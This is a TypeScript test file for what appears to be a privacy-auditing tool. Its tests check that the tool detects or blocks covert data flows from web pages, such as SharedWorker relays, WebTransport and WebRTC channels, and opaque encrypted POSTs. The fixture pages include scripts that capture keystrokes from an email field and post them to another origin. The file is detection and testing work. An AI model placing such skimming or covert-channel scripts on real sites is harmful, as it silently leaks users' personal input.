import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { launchBrowser } from '../browser/launch.ts';
import { payingNothing } from '../browser/network-guard.ts';
import { needingConsent } from '../consent/consent-check.ts';
import { makePerson } from '../people/synthetic-person.ts';
import { probe } from '../probe.ts';
import { onePage } from '../testing/one-page.ts';
import { type Site, startSite } from '../testing/site.ts';
import { Visit } from '../visit.ts';

const EMAIL = '<form><label>E-mail <input name="email"></label></form>';
/** Port of nobody; the address is refused, and the channel opened all the same. */
const TRANSPORT = 'https://127.0.0.1:4433/feed';

let browser: Browser;
let site: Site;
beforeAll(async () => {
  browser = await launchBrowser();
  site = await startSite({
    '/': '<h1>Loans</h1>',
    '/take': '',
    '/shared.js': {
      type: 'text/javascript',
      body: "onconnect = ({ ports: [port] }) => { port.onmessage = ({ data }) => fetch('OTHER/take', { method: 'POST', mode: 'no-cors', body: data }); }",
    },
    '/shared': `${EMAIL}<script>
      const worker = window.SharedWorker && new SharedWorker('/shared.js');
      const tell = (body) => worker ? worker.port.postMessage(body) : fetch('OTHER/take', { method: 'POST', mode: 'no-cors', body });
      document.querySelector('input').addEventListener('input', ({ target }) => tell(target.value));
    </script>`,
    '/channels': `${EMAIL}<script>
      new WebTransport('${TRANSPORT}').ready.catch(() => 0);
      const peer = new RTCPeerConnection({ iceServers: [{ urls: ['stun:127.0.0.1:3478', 'turn:127.0.0.1:3478?transport=udp'], username: 'u', credential: 'c' }] });
      peer.createDataChannel('take');
      fetch('OTHER/take', { method: 'POST', mode: 'no-cors', body: crypto.getRandomValues(new Uint8Array(4000)) });
    </script>`,
  });
});
afterAll(async () => {
  await site.close();
  await browser.close();
});

/** A visit of a page that runs a script: what it gives, and what the visit saw sent. */
async function run<Given>(script: string) {
  const visit = await Visit.begin(browser, { person: makePerson(1), permission: payingNothing([site.own]) });
  await visit.open(`${site.own}/`);
  const given = await visit.page.evaluate<Given>(script.replaceAll('OTHER', site.other));
  await visit.settle();
  const sent = await visit.sent();
  await visit.close();
  return { given, sent };
}

describe('a shared worker, of which nobody would see what it sends', () => {
  const inFrame = `new Promise((done) => {
    addEventListener('message', ({ data }) => done(data));
    document.body.appendChild(document.createElement('iframe')).srcdoc =
      "<script>top.postMessage(typeof SharedWorker, '*')<" + "/script>";
  })`;

  test.each([
    ['a page', 'typeof SharedWorker'],
    [
      'a frame that was just made',
      "typeof document.body.appendChild(document.createElement('iframe')).contentWindow.SharedWorker",
    ],
    ['a frame with a page of its own', inFrame],
    ['a window that was just opened', "typeof open('').SharedWorker"],
  ])('can not be started by %s', async (_, script) => {
    expect((await run(script)).given).toBe('undefined');
  });

  test('is done without by a page, and what it sends instead is read', async () => {
    const { destinations, conclusive } = await probe({ ...onePage, url: `${site.own}/shared` });
    expect(destinations[0]?.arrivals.map(({ marker }) => marker)).toContain('email');
    expect(conclusive).toBe(true);
  });
});

describe('a channel that nobody sees into', () => {
  const channelsOf = async (script: string) =>
    (await run(script)).sent.flatMap(({ kind, method, url }) => (kind === 'channel' ? [`${method} ${url}`] : []));

  test.each([
    ['by WebTransport', `new WebTransport('${TRANSPORT}').ready.catch(() => 0); 0`, [`WebTransport ${TRANSPORT}`]],
    ['to a peer', 'new RTCPeerConnection(); 0', ['WebRTC webrtc://no-server/']],
    ['to a peer by its old name', 'new webkitRTCPeerConnection({}); 0', ['WebRTC webrtc://no-server/']],
    [
      'to a peer, as a class of the page’s own',
      "new (class extends RTCPeerConnection {})({ iceServers: [{ urls: 'stun:stun.example:1' }] }); 0",
      ['WebRTC webrtc://stun.example:1/'],
    ],
    [
      'in a frame that was just made',
      "new (document.body.appendChild(document.createElement('iframe')).contentWindow.RTCPeerConnection)(); 0",
      ['WebRTC webrtc://no-server/'],
    ],
    ['that can not be made', "try { new WebTransport('http://127.0.0.1/') } catch {} 0", []],
  ])('is told where it is opened %s', async (_, script, channels) => {
    expect(await channelsOf(script)).toEqual(channels);
  });

  test('works as it did', async () => {
    const { given } = await run(
      `const peer = new RTCPeerConnection(); const channel = peer.createDataChannel('x');
      [peer instanceof RTCPeerConnection, peer.constructor === RTCPeerConnection, channel.label, typeof RTCPeerConnection.generateCertificate].join()`,
    );
    expect(given).toBe('true,true,x,function');
  });

  test('needs agreement where it leads to somebody, and none where it may lead to nobody', async () => {
    const { sent } = await run(`new WebTransport('${TRANSPORT}').ready.catch(() => 0); new RTCPeerConnection(); 0`);
    const needing = needingConsent(sent, [site.own]);
    expect(needing.map(({ sent: { method } }) => method)).toEqual(['WebTransport']);
    expect(needingConsent(sent, [site.own, new URL(TRANSPORT).origin])).toEqual([]);
  });

  test('keeps the report from being conclusive, as does a body that says nothing, and each is named', async () => {
    const { conclusive, destinations, findings } = await probe({ ...onePage, url: `${site.own}/channels` });
    expect(conclusive).toBe(false);
    const unread = findings.filter(({ rule }) => rule === 'unread').flatMap(({ evidence }) => evidence);
    expect(unread.sort()).toEqual([
      expect.stringMatching(/^POST \/take, \d+ times?, [\d,]+,000 bytes: it is encrypted/),
      expect.stringMatching(/^WebRTC \/, \d+ times?: the browser does not show what goes through it/),
      expect.stringMatching(/^WebTransport \/feed, \d+ times?: the browser does not show what goes through it/),
    ]);
    expect(destinations.map(({ origin }) => origin).sort()).toEqual([
      site.other,
      new URL(TRANSPORT).origin,
      'webrtc://127.0.0.1:3478',
    ]);
  });
});
